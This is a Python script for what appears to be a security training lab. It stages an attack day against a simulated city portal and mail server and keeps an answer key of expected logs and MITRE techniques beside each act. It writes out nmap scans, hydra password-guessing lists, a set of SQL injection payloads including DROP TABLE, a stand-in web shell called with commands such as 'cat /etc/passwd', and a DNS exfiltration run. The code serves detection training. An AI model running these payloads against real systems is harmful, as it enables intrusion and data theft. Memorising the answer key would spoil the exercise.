"""The lab day as a story: what the attacker does, one function an act, with its answer key beside it.

The key is declared here and nowhere else; `lab.record` adds only the times. Every act is harmless: nothing that
is uploaded is executed, the beacon does what it is told by nobody, and the data that leaves is a fixed marker.
"""

import sys
import time

from lab import visit
from lab.clients.tunnel import marker
from lab.host import Host
from lab.key import Act, Lines, Packets, Text
from lab.plan import (
    ATTACKER,
    BEACON_NAME,
    COMMAND,
    COMMUNE_AN_BINH,
    COMMUNE_VINH_LOC,
    DOMAIN,
    MAIL,
    MAIL_PASSWORDS,
    MAILBOX_ADMINISTRATOR,
    MAILBOX_DESK,
    MAILBOX_RECEPTION,
    PORTAL,
    PORTAL_NAME,
    RESOLVER,
    TUNNEL_DOMAIN,
)
from lab.world import World

_ATTACKER, _PORTAL, _MAIL = str(ATTACKER.address), str(PORTAL.address), str(MAIL.address)
_TARGET_PORTAL = {"destination.ip": (_PORTAL,), "host.hostname": (PORTAL.name,)}
_TARGET_MAIL = {"destination.ip": (_MAIL,), "host.hostname": (MAIL.name,)}
_PLAIN = f"http://{PORTAL_NAME}"
_ACCESS = f"{PORTAL.name}/nginx/access.log"

SSH_NAMES = ("root", "admin", "test", "oracle", "postgres", "ubuntu", "quantri", "vanhanh")
SSH_WORDS = ("123456", "password", "admin@123", "Abc@12345", "P@ssw0rd")
MAIL_NAMES = (f"admin@{DOMAIN}", MAILBOX_ADMINISTRATOR, MAILBOX_RECEPTION, MAILBOX_DESK)
MAIL_WORDS = ("123456", "password", "12345678", "bensen2026", "Abc@12345", MAIL_PASSWORDS[MAILBOX_DESK])
SCANNED_PORTS = "1-1024,1433,1521,2049,3306,3389,5432,5900,6379,8000,8080,8443,9200,11211,27017"
SWEPT_PORTS = "22,80,443,445,3389"
SWEPT_HOSTS = "10.10.20.1-30"
SLOW_PORTS = "21,22,23,25,80,110,139,143,443,445,993,1433,3306,3389,8080"
BEACON_COUNT, BEACON_SECONDS, BEACON_JITTER = 40, 5.0, 0.6
TUNNEL_COUNT, TUNNEL_SECONDS = 120, 0.3
TUNNEL_BYTES = len(marker(TUNNEL_COUNT * 60))
SHELL_NAME = "anh-the.php"
SHELL_COMMANDS = ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /var/www")

# Hand-written after what injection tools try, one kind a line: quote, always true and always false, UNION with its
# column count, the schema, comments instead of spaces, time by a heavy function, stacked, encoded twice.
INJECTIONS = (
    "khai sinh'",
    "khai sinh' AND 5512=5512 AND 'a' LIKE 'a",
    "khai sinh' AND 5512=5513 AND 'a' LIKE 'a",
    "' OR '1'='1",
    "' OR 1=1-- -",
    "' ORDER BY 4-- -",
    "' UNION SELECT NULL,NULL-- -",
    "' UNION SELECT NULL,NULL,NULL-- -",
    "' UNION ALL SELECT name,sql,type FROM sqlite_master-- -",
    "' UNION ALL SELECT ten,vai_tro,dau_vet FROM tai_khoan-- -",
    "'/**/UNION/**/SELECT/**/1,2,sqlite_version()--/**/-",
    "' AND 1=randomblob(3000000)-- -",
    "' AND SLEEP(5)-- -",
    "'; DROP TABLE thu_tuc-- -",
    "%27%20OR%20%271%27%3D%271",
    "' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -",
)
INJECTIONS_UNDER_TLS = ("' OR 'x'='x", "' UNION SELECT ten,vai_tro,dau_vet FROM tai_khoan-- -")
# A guess at a hand that types; long enough that nothing hides in one second.
_BETWEEN_REQUESTS_SECONDS, _BETWEEN_COMMANDS_SECONDS = 0.7, 1.6
# So many of the requests name their tool, as a careless attacker's first ones do.
_BY_TOOL = 3
_TOOL = "sqlmap/1.6.12#stable (https://sqlmap.org)"


def scan_ports(world: World) -> None:
    """A scan by nmap from outside: a fast scan of two hosts, a sweep of a network, then a slow look at the mail host."""
    quiet = ("-n", "-Pn", "--disable-arp-ping", "-sS")
    fast = ("--min-rate", "250", "--max-retries", "1")
    world.attacker.run("nmap", *quiet, *fast, "-p", SCANNED_PORTS, _PORTAL, _MAIL)
    world.attacker.run("nmap", *quiet, *fast, "-p", SWEPT_PORTS, SWEPT_HOSTS)
    world.attacker.run("nmap", "-n", "-Pn", "-sV", "--version-light", "-p", "22,80", _PORTAL)
    world.attacker.run("nmap", *quiet, "--scan-delay", "900ms", "--max-retries", "0", "-p", SLOW_PORTS, _MAIL)


def guess_ssh_passwords(world: World) -> None:
    """A run of hydra on the portal's SSH: eight names, five passwords; none is right."""
    _write_lists(world.attacker, names=SSH_NAMES, words=SSH_WORDS)
    world.attacker.run("hydra", *_LISTS, "-t", "4", "-I", f"ssh://{_PORTAL}", seconds=120)


def guess_mail_passwords(world: World) -> None:
    """A run of hydra on IMAP and then on submission; the last word for the last mailbox is right, and the mailbox is opened."""
    _write_lists(world.attacker, names=MAIL_NAMES, words=MAIL_WORDS)
    world.attacker.run("hydra", *_LISTS, "-t", "4", "-I", f"imap://{_MAIL}/PLAIN", seconds=90)
    _write_lists(world.attacker, names=MAIL_NAMES[:3], words=MAIL_WORDS[:4])
    world.attacker.run("hydra", *_LISTS, "-t", "3", "-I", "-s", "587", f"smtp://{_MAIL}/LOGIN", seconds=90)
    visit.read_mail(world.attacker, MAILBOX_DESK)


def inject_sql(world: World) -> None:
    """Requests against the search, most over plain HTTP; two more under TLS, which only the access log shows."""
    for number, text in enumerate(INJECTIONS):
        agent = _TOOL if number < _BY_TOOL else visit.CHROME
        visit.page(world.attacker, visit.query(f"{_PLAIN}/tim-kiem", q=text), agent=agent)
        time.sleep(_BETWEEN_REQUESTS_SECONDS)
    visit.form(world.attacker, f"{_PLAIN}/hoi-dap", tieu_de="x' OR 1=1-- -", noi_dung="1 UNION SELECT 1,2,3-- -")
    for text in INJECTIONS_UNDER_TLS:
        visit.page(world.attacker, visit.query(f"https://{PORTAL_NAME}/tim-kiem", q=text), agent=visit.CHROME)


def plant_web_shell(world: World) -> None:
    """A harmless `.php` sent as a picture, then called: the portal answers fixed words and executes nothing."""
    content = b"<?php /* khien-lab: a harmless stand-in; the lab executes nothing */ echo 'khien-lab'; ?>\n"
    visit.page(world.attacker, f"{_PLAIN}/nop-ho-so", agent=visit.CHROME)
    address = f"{_PLAIN}/nop-ho-so"
    visit.upload(world.attacker, address, name=SHELL_NAME, content=content, kind="image/jpeg", agent=visit.CHROME)
    for command in SHELL_COMMANDS:
        time.sleep(_BETWEEN_COMMANDS_SECONDS)
        visit.page(world.attacker, visit.query(f"{_PLAIN}/tai-len/{SHELL_NAME}", cmd=command), agent=visit.CHROME)


def call_home(world: World) -> None:
    """The stand-in beacon on a workstation in An Bình: every five seconds, give or take."""
    program = (sys.executable, "-m", "lab.clients.beacon", BEACON_NAME)
    seconds = BEACON_COUNT * BEACON_SECONDS + 60
    world.an_binh.run(*program, str(BEACON_COUNT), str(BEACON_SECONDS), str(BEACON_JITTER), seconds=seconds)


def leak_through_dns(world: World) -> None:
    """The marker leaves a workstation in Vĩnh Lộc in the names of TXT look-ups, through the city's own resolver."""
    program = (sys.executable, "-m", "lab.clients.tunnel", str(RESOLVER.address), TUNNEL_DOMAIN)
    world.vinh_loc.run(*program, str(TUNNEL_COUNT), str(TUNNEL_SECONDS), seconds=120)


_LISTS = ("-L", "/tmp/names", "-P", "/tmp/words")


def _write_lists(host: Host, *, names: tuple[str, ...], words: tuple[str, ...]) -> None:
    host.write("/tmp/names", "".join(f"{name}\n" for name in names))
    host.write("/tmp/words", "".join(f"{word}\n" for word in words))


PORT_SCAN = Act(
    name="port-scan",
    title=Text(
        "Quét cổng từ bên ngoài vào cổng thông tin và máy chủ thư",
        "Port scan from outside against portal and mail host",
    ),
    techniques=("T1595.001", "T1046"),
    must_name=({"source.ip": (_ATTACKER,)}, {"destination.ip": (_PORTAL, _MAIL)}),
    facts={"ports_tried_per_host": 1038, "swept_hosts": 30, "swept_network": "10.10.20.0/27", "slow_part": True},
    evidence=(
        Packets(_ATTACKER, _PORTAL, "tcp", 1000),
        Packets(_ATTACKER, _MAIL, "tcp", 1000),
        Packets(_ATTACKER, "10.10.20.30", "tcp", 5),
    ),
    perform=scan_ports,
)
SSH_GUESSING = Act(
    name="ssh-password-guessing",
    title=Text(
        "Dò mật khẩu SSH trên cổng thông tin, nhiều tên, không thành công",
        "Password guessing on the portal's SSH, no success",
    ),
    techniques=("T1110.001", "T1110.003"),
    must_name=({"source.ip": (_ATTACKER,)}, _TARGET_PORTAL),
    facts={"attempts": len(SSH_NAMES) * len(SSH_WORDS), "names_tried": SSH_NAMES, "success": False},
    evidence=(
        Packets(_ATTACKER, _PORTAL, "tcp", 100, port=22, contains=("SSH-2.0-libssh",)),
        Lines(f"{PORTAL.name}/auth.log", ("Failed password", _ATTACKER), 35),
        Lines(f"{PORTAL.name}/auth.log", ("Failed password for invalid user oracle", _ATTACKER), 5),
        Lines(f"{PORTAL.name}/auth.log", ("Failed password for quantri", _ATTACKER), 5),
    ),
    perform=guess_ssh_passwords,
)
MAIL_GUESSING = Act(
    name="mail-password-guessing",
    title=Text(
        "Dò mật khẩu thư qua IMAP và SMTP, cuối cùng mở được một hộp thư",
        "Password guessing on IMAP and SMTP; one mailbox is opened",
    ),
    techniques=("T1110.001", "T1110.003", "T1078"),
    must_name=({"source.ip": (_ATTACKER,)}, _TARGET_MAIL, {"user.name": (MAILBOX_DESK,)}),
    facts={
        "imap_attempts": len(MAIL_NAMES) * len(MAIL_WORDS),
        "smtp_attempts": len(MAIL_NAMES[:3]) * len(MAIL_WORDS[:4]),
        "names_tried": MAIL_NAMES,
        "success": True,
        "opened_mailbox": MAILBOX_DESK,
    },
    evidence=(
        Packets(_ATTACKER, _MAIL, "tcp", 20, port=143),
        Packets(_ATTACKER, _MAIL, "tcp", 20, port=587, contains=("AUTH LOGIN",)),
        Lines(f"{MAIL.name}/mail.log", ("imap-login", "auth failed", _ATTACKER), 4),
        Lines(f"{MAIL.name}/mail.log", ("SASL LOGIN authentication failed", _ATTACKER), 10),
        Lines(f"{MAIL.name}/mail.log", ("imap-login: Login", MAILBOX_DESK, _ATTACKER), 1),
    ),
    perform=guess_mail_passwords,
)
SQL_INJECTION = Act(
    name="sql-injection",
    title=Text("Chèn SQL vào ô tìm kiếm của cổng thông tin", "SQL injection into the portal's search"),
    techniques=("T1190",),
    must_name=({"source.ip": (_ATTACKER,)}, _TARGET_PORTAL),
    facts={
        "requests_plain": len(INJECTIONS) + 1,
        "requests_under_tls": len(INJECTIONS_UNDER_TLS),
        "url_path": "/tim-kiem",
    },
    evidence=(
        Packets(_ATTACKER, _PORTAL, "tcp", len(INJECTIONS), port=80, contains=("UNION+ALL+SELECT", "sqlite_master")),
        Lines(_ACCESS, (_ATTACKER, "/tim-kiem?q="), len(INJECTIONS) + len(INJECTIONS_UNDER_TLS)),
        Lines(_ACCESS, (_ATTACKER, "UNION+ALL+SELECT+ten", '" 200 '), 1),
        Lines(_ACCESS, (_ATTACKER, '" 500 '), 3),
    ),
    perform=inject_sql,
)
WEB_SHELL = Act(
    name="web-shell",
    title=Text("Tải lên và gọi một tệp giả web shell", "A stand-in web shell is uploaded and called"),
    techniques=("T1505.003", "T1190"),
    must_name=({"source.ip": (_ATTACKER,)}, _TARGET_PORTAL, {"url.path": (f"/tai-len/{SHELL_NAME}",)}),
    facts={
        "url_path": f"/tai-len/{SHELL_NAME}",
        "file_name": SHELL_NAME,
        "calls": len(SHELL_COMMANDS),
        "claimed_type": "image/jpeg",
    },
    evidence=(
        Packets(_ATTACKER, _PORTAL, "tcp", 1, port=80, contains=(f'filename="{SHELL_NAME}"', "<?php")),
        Lines(_ACCESS, (_ATTACKER, "POST /nop-ho-so", '" 200 '), 1),
        Lines(_ACCESS, (_ATTACKER, f"/tai-len/{SHELL_NAME}?cmd=", '" 200 '), len(SHELL_COMMANDS)),
    ),
    perform=plant_web_shell,
)
BEACON = Act(
    name="beacon",
    title=Text(
        "Máy trạm An Bình gọi về máy chủ điều khiển đều đặn qua TLS",
        "A workstation in An Bình calls a command server over TLS at intervals",
    ),
    techniques=("T1071.001", "T1573.002"),
    must_name=(
        {"source.ip": (str(COMMUNE_AN_BINH.address),)},
        {"destination.ip": (str(COMMAND.address),), "tls.client.server_name": (BEACON_NAME,)},
    ),
    facts={"calls": BEACON_COUNT, "interval_seconds": int(BEACON_SECONDS), "self_signed": True, "tls_version": "1.2"},
    evidence=(
        Packets(
            str(COMMUNE_AN_BINH.address),
            str(COMMAND.address),
            "tcp",
            BEACON_COUNT * 4,
            port=443,
            contains=(BEACON_NAME,),
        ),
    ),
    perform=call_home,
)
DNS_EXFILTRATION = Act(
    name="dns-exfiltration",
    title=Text("Dữ liệu đánh dấu rời mạng trong tên miền truy vấn DNS", "Marker data leaves in the names of DNS queries"),
    techniques=("T1048.003", "T1071.004"),
    must_name=(
        {"source.ip": (str(COMMUNE_VINH_LOC.address),)},
        {"dns.question.registered_domain": (TUNNEL_DOMAIN,), "destination.ip": (str(COMMAND.address),)},
    ),
    facts={
        "queries": TUNNEL_COUNT,
        "bytes_carried": TUNNEL_BYTES,
        "query_type": "TXT",
        "name_server": str(COMMAND.address),
    },
    evidence=(
        Packets(str(COMMUNE_VINH_LOC.address), str(RESOLVER.address), "udp", TUNNEL_COUNT, port=53, contains=("dong-bo",)),
        Packets(str(RESOLVER.address), str(COMMAND.address), "udp", TUNNEL_COUNT, port=53, contains=("dong-bo",)),
        Lines(f"{RESOLVER.name}/daemon.log", (TUNNEL_DOMAIN, "TXT"), TUNNEL_COUNT),
    ),
    perform=leak_through_dns,
)

# In the order in which they begin; the beacon goes on beside the others.
ACTS = (PORT_SCAN, SSH_GUESSING, MAIL_GUESSING, SQL_INJECTION, WEB_SHELL, DNS_EXFILTRATION)
BESIDE = BEACON
